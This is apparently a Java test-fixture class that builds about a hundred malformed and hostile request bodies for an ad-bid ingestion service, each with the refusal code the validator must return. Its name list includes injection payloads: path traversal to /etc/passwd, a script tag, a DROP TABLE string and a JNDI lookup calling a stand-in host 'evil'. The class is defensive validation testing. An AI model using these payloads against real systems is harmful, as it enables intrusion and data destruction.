package io.quantedge.ingest.testing;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * What no bid looks like: some hundred malformed and hostile inputs, each with the code with which
 * every door must refuse it. Built from one good bid, so that nothing but the fault is wrong.
 */
public final class HostileInputs {
  private static final String INVALID = "INVALID_REQUEST";
  private static final int MAX_BODY_BYTES = 65_536;

  private static final List<String> NO_NAMES =
      List.of(
          "",
          " ",
          "a b",
          "a/b",
          "a|b",
          "a#b",
          "../../etc/passwd",
          "-a",
          ".a",
          "é",
          "名前",
          "😀",
          "a\\u0000b",
          "a\\nb",
          "a\\u001bb",
          "\\ud800",
          "\\udc00x",
          "a\\u202eb",
          "<script>alert(1)</script>",
          "'; DROP TABLE bids;--",
          "${jndi:ldap://evil/x}",
          "%00",
          "a".repeat(65),
          "a".repeat(60_000));

  private static final List<String> NO_NUMBERS =
      List.of(
          "",
          " ",
          "five",
          " 5",
          "5 ",
          "5,40",
          "0x10",
          "1_000",
          "1e",
          "--1",
          "1.2.3",
          "NaN",
          "Infinity",
          "-Infinity",
          "٥",
          "5٠",
          "½",
          "5\\u0000",
          "5".repeat(10_000),
          "1d",
          "1f");

  private static final List<String> NO_PRICES =
      List.of(
          "0",
          "-0",
          "-1",
          "0.00001",
          "1e-5",
          "1e400",
          "-1e400",
          "1e999999999",
          "1e-999999999",
          "100000000000000",
          "99999999999999.99999",
          "9223372036854775808",
          "0." + "1".repeat(40),
          "5." + "0".repeat(40) + "1",
          "1".repeat(150));

  private static final List<String> NO_JSON_NUMBERS =
      List.of(
          "NaN",
          "Infinity",
          "-Infinity",
          "+5",
          ".5",
          "5.",
          "05",
          "0x10",
          "1e",
          "--1",
          "1_000",
          "5f",
          "1".repeat(5_000),
          "five");

  private final String slotId;
  private final List<Input> inputs = new ArrayList<>();

  /**
   * One input.
   *
   * @param code the code of the refusal
   */
  public record Input(String name, byte[] value, String code) {
    /** Whether it is exactly one line that is not blank, as a stream sees it. */
    public boolean isOneLine() {
      String text = new String(value, StandardCharsets.ISO_8859_1);
      return text.indexOf('\n') < 0 && !text.replace("\t", "").replace("\r", "").isBlank();
    }

    @Override
    public String toString() {
      return name;
    }
  }

  private HostileInputs(String slotId) {
    this.slotId = slotId;
  }

  /** All of them, for an open slot with a floor of 1 USD by {@code pub-1}. */
  public static List<Input> all(String slotId) {
    HostileInputs builder = new HostileInputs(slotId);
    builder.addNoJson();
    builder.addWrongTypes();
    builder.addWrongTexts();
    builder.addWrongNumbers();
    builder.addMissingAndRepeatedFields();
    builder.addEncodings();
    builder.addSizes();
    builder.addWhatTheSlotRefuses();
    return List.copyOf(builder.inputs);
  }

  /** Unusual and good: every door must take these. */
  public static List<Input> harmless(String slotId) {
    HostileInputs builder = new HostileInputs(slotId);
    builder.add("unknown fields", builder.with("x", "{\"y\": [1, null, \"\\ud800\"]}"), "");
    builder.add("31 levels deep", builder.with("x", "[".repeat(31) + "]".repeat(31)), "");
    builder.add("escaped name", builder.good().replace("\"amount\"", "\"\\u0061mount\""), "");
    builder.add("spaces around", " \t " + builder.good() + " \t\r", "");
    builder.add("number as amount", builder.with("amount", "5.4"), "");
    builder.add("exponent", builder.with("amount", "\"1e2\""), "");
    builder.add("nulls", builder.with("bidId", "null"), "");
    builder.addBytes("byte order mark", concat(bytes(0xEF, 0xBB, 0xBF), builder.good()), "");
    return List.copyOf(builder.inputs);
  }

  /** A good bid for the slot, without an id. */
  public static String good(String slotId) {
    return new HostileInputs(slotId).good();
  }

  private void addNoJson() {
    for (String text :
        List.of(
            "",
            " ",
            "\t",
            "{",
            "}",
            "[",
            "]",
            "[]",
            "[{}]",
            "null",
            "true",
            "1",
            "\"x\"",
            "{}",
            "{\"a\"}",
            "{a:1}",
            "{'a':1}",
            "<bid/>",
            "amount=5",
            "\u0000",
            "//x",
            "---",
            "{\"a\":1,}",
            "{,}",
            "{\"a\":}",
            "{\"a\":tru}",
            "{\"\\x\":1}",
            "{\"a\":\"\u0001\"}",
            "{\"a\":\"\\u12\"}",
            "{\"a\":'x'}",
            "\uFEFF")) {
      add("no bid: " + text, text, INVALID);
    }
    String good = good();
    for (int cut = 1; cut < good.length(); cut += 4) {
      add("cut at " + cut, good.substring(0, cut), INVALID);
    }
    for (String tail : List.of("{}", good, "x", "]", ",", "null", "\u0000")) {
      add("followed by " + tail, good + tail, INVALID);
    }
    add("an array of bids", "[" + good + "]", INVALID);
    add("a comment", "/* */" + good, INVALID);
  }

  private void addWrongTypes() {
    for (String field : fields().keySet()) {
      for (String value : List.of("true", "false", "[]", "{}", "[\"x\"]", "{\"a\":1}")) {
        add(field + " is " + value, with(field, value), INVALID);
      }
    }
    for (String field : List.of("slotId", "bidId", "accountId", "region", "currency")) {
      add(field + " is a number", with(field, "5"), INVALID);
      add(field + " is a fraction", with(field, "1.5"), INVALID);
    }
    add("latencyMs is text", with("latencyMs", "\"12\""), INVALID);
    add("latencyMs is a fraction", with("latencyMs", "1.5"), INVALID);
    add("latencyMs has an exponent", with("latencyMs", "1e3"), INVALID);
  }

  private void addWrongTexts() {
    for (String field : List.of("slotId", "accountId", "region", "currency", "bidId")) {
      for (String text : NO_NAMES) {
        add(field + " is '" + shown(text) + "'", with(field, quoted(text)), INVALID);
      }
    }
    for (String id :
        List.of(
            "1-1-1-1-1",
            "0190b7f0",
            "0190b7f05c1e7cc398c4dc0c0c07398f",
            "{0190b7f0-5c1e-7cc3-98c4-dc0c0c07398f}",
            "0190b7f0-5c1e-7cc3-98c4-dc0c0c07398g",
            "0190b7f0-5c1e-7cc3-98c4-dc0c0c07398f0")) {
      add("bidId is " + id, with("bidId", quoted(id)), INVALID);
    }
    for (String currency : List.of("usd", "US", "USDD", "XXY", "€", "840", "U SD")) {
      add("currency is " + currency, with("currency", quoted(currency)), INVALID);
    }
    for (String region :
        List.of("EU-WEST-1", "eu", "mars", "eu_west_1", "eu-west-", "eu-west-123")) {
      add("region is " + region, with("region", quoted(region)), INVALID);
    }
  }

  private void addWrongNumbers() {
    for (String field : List.of("amount", "qualityScore")) {
      for (String text : NO_NUMBERS) {
        add(field + " is the text '" + shown(text) + "'", with(field, quoted(text)), INVALID);
      }
      for (String token : NO_JSON_NUMBERS) {
        add(field + " is " + shown(token), with(field, token), INVALID);
      }
      for (String number : NO_PRICES) {
        add(field + " is " + shown(number), with(field, number), INVALID);
        add(field + " is the text " + shown(number), with(field, quoted(number)), INVALID);
      }
    }
    for (String score : List.of("1.0001", "2", "1e1")) {
      add("qualityScore is " + score, with("qualityScore", score), INVALID);
    }
    for (String latency : List.of("-1", "600001", "2147483648", "-2147483649", "1".repeat(30))) {
      add("latencyMs is " + latency, with("latencyMs", latency), INVALID);
    }
  }

  private void addMissingAndRepeatedFields() {
    for (String field : List.of("slotId", "accountId", "region", "amount", "currency")) {
      Map<String, String> fields = fields();
      fields.remove(field);
      add(field + " is missing", json(fields), INVALID);
      add(field + " is null", with(field, "null"), INVALID);
    }
    fields()
        .forEach((field, value) -> {
          String again = ",\"" + field + "\":" + value + "}";
          add(field + " comes twice", good().replaceFirst("}$", again), INVALID);
        });
  }

  private void addEncodings() {
    for (Charset charset :
        List.of(
            StandardCharsets.UTF_16LE,
            StandardCharsets.UTF_16BE,
            StandardCharsets.UTF_16,
            Charset.forName("UTF-32LE"),
            Charset.forName("UTF-32BE"))) {
      addBytes("in " + charset, good().getBytes(charset), INVALID);
    }
    Map<String, byte[]> sequences = new LinkedHashMap<>();
    sequences.put("a byte that never occurs", bytes(0xFF));
    sequences.put("an overlong NUL", bytes(0xC0, 0x80));
    sequences.put("an overlong slash", bytes(0xE0, 0x80, 0xAF));
    sequences.put("a surrogate", bytes(0xED, 0xA0, 0x80));
    sequences.put("a lone continuation", bytes(0x80));
    sequences.put("a cut sequence", bytes(0xE2, 0x82));
    sequences.put("beyond Unicode", bytes(0xF5, 0x80, 0x80, 0x80));
    sequences.put("Latin-1", bytes(0xE9));
    sequences.forEach((name, sequence) -> {
      for (String field : List.of("accountId", "ignored")) {
        byte[] json = with(field, "\"@\"").getBytes(UTF_8);
        addBytes(name + " in " + field, replaced(json, (byte) '@', sequence), INVALID);
      }
      byte[] inName = with("@", "1").getBytes(UTF_8);
      addBytes(name + " in a name", replaced(inName, (byte) '@', sequence), INVALID);
    });
  }

  private void addSizes() {
    for (int depth : List.of(33, 1_000, 20_000)) {
      add("arrays " + depth + " deep", with("x", "[".repeat(depth) + "]".repeat(depth)), INVALID);
      add("unclosed arrays " + depth + " deep", "[".repeat(depth), INVALID);
    }
    add("objects 5000 deep", "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000), INVALID);
    add("a long name", with("n".repeat(5_000), "1"), INVALID);
    add("a long number nobody reads", with("x", "1".repeat(50_000)), INVALID);
    for (int bytes : List.of(MAX_BODY_BYTES + 1, 200_000, 800_000)) {
      add(bytes + " bytes", padded(bytes), "BODY_TOO_LARGE");
    }
  }

  private void addWhatTheSlotRefuses() {
    add("below the floor", with("amount", "\"0.9999\""), "BELOW_FLOOR");
    add("another currency", with("currency", "\"EUR\""), "WRONG_CURRENCY");
    add("the publisher", with("accountId", "\"pub-1\""), "OWN_SLOT");
    add("another region", with("region", "\"eu-north-1\""), "UNKNOWN_REGION");
  }

  /** A body of ten megabytes. */
  public static byte[] huge(String slotId) {
    return new HostileInputs(slotId).padded(10_000_000).getBytes(UTF_8);
  }

  private String padded(int bytes) {
    int padding = bytes - with("x", "\"\"").length();
    return with("x", quoted("x".repeat(padding)));
  }

  private Map<String, String> fields() {
    Map<String, String> fields = new LinkedHashMap<>();
    fields.put("slotId", quoted(slotId));
    fields.put("bidId", quoted("0190b7f0-5c1e-7cc3-98c4-dc0c0c07398f"));
    fields.put("accountId", quoted("adv-1"));
    fields.put("region", quoted("eu-west-1"));
    fields.put("amount", quoted("5.4000"));
    fields.put("currency", quoted("USD"));
    fields.put("latencyMs", "12");
    fields.put("qualityScore", "0.95");
    return fields;
  }

  private String good() {
    Map<String, String> fields = fields();
    fields.remove("bidId");
    return json(fields);
  }

  private String with(String field, String value) {
    Map<String, String> fields = fields();
    fields.put(field, value);
    if (!field.equals("bidId")) {
      fields.remove("bidId");
    }
    return json(fields);
  }

  private static String json(Map<String, String> fields) {
    StringBuilder json = new StringBuilder("{");
    fields.forEach((name, value) ->
        json.append(json.length() > 1 ? "," : "").append(quoted(name)).append(':').append(value));
    return json.append('}').toString();
  }

  private void add(String name, String value, String code) {
    addBytes(name, value.getBytes(UTF_8), code);
  }

  private void addBytes(String name, byte[] value, String code) {
    inputs.add(new Input(shown(name), value, code));
  }

  private static String quoted(String text) {
    return '"' + text + '"';
  }

  private static String shown(String text) {
    return text.length() <= 60 ? text : text.substring(0, 60) + "… (" + text.length() + ")";
  }

  private static byte[] bytes(int... values) {
    byte[] bytes = new byte[values.length];
    for (int i = 0; i < values.length; i++) {
      bytes[i] = (byte) values[i];
    }
    return bytes;
  }

  private static byte[] concat(byte[] head, String tail) {
    byte[] rest = tail.getBytes(UTF_8);
    byte[] all = new byte[head.length + rest.length];
    System.arraycopy(head, 0, all, 0, head.length);
    System.arraycopy(rest, 0, all, head.length, rest.length);
    return all;
  }

  private static byte[] replaced(byte[] json, byte marker, byte[] sequence) {
    int at = 0;
    while (json[at] != marker) {
      at++;
    }
    byte[] all = new byte[json.length - 1 + sequence.length];
    System.arraycopy(json, 0, all, 0, at);
    System.arraycopy(sequence, 0, all, at, sequence.length);
    System.arraycopy(json, at + 1, all, at + sequence.length, json.length - at - 1);
    return all;
  }
}
